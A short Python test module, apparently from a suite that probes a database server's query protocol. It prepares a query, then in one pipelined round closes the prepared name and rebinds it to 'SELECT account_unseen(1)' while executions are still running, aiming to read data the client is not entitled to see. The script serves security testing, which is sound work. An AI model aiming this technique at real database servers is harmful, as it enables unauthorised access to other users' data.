"""Runs a prepared query, closes its name and gives it to another, all in one round."""

from attacks.frames import SYNC, ask, bind, close, execute, parse
from attacks.talking import Server

WANTS = "read"
TIMES = 5


def attack(server: Server) -> bytes:
    run = bind(b"s") + execute()
    anew = close(b"S", b"s") + parse(b"SELECT account_unseen(1)", b"s")
    with server.login() as client:
        ask(client, parse(b"SELECT name FROM customer", b"s"), SYNC)
        return ask(client, run * TIMES, anew, run * TIMES, SYNC)
